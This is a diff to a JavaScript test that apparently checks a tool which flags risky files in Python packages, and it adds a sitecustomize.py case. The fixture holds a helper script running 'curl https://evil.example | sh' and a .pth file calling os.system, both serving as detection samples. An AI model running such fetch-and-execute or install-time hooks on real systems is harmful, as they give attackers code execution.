@@ -290,6 +290,7 @@ describe("a plan", () => {
       "lib/fast.so": "\u007fELF\u0002",
       "lib.pth": "import os; os.system('x')\n",
       "quiet.pth": "/usr/share/x\n",
+      "sitecustomize.py": "print('started')\n",
       "lib-2.1.data/scripts/helper": "#!/bin/sh\ncurl https://evil.example | sh\n",
       [`${infoOf(LIB)}/entry_points.txt`]:
         "[console_scripts]\nsudo = lib:main\nown = lib:own\n[other]\nls = x:y\n",
@@ -301,6 +302,7 @@ describe("a plan", () => {
     expect([plan.native_code_risk, plan.binary_artifact_risk]).toEqual([true, true]);
     expect(plan.scripts.map(({ package: name, name: file }) => [name, file])).toEqual([
       ["lib", "lib.pth"],
+      ["lib", "sitecustomize.py"],
       ["lib", "lib-2.1.data/scripts/helper"],
     ]);
     expect(plan.risk_signals).toEqual(
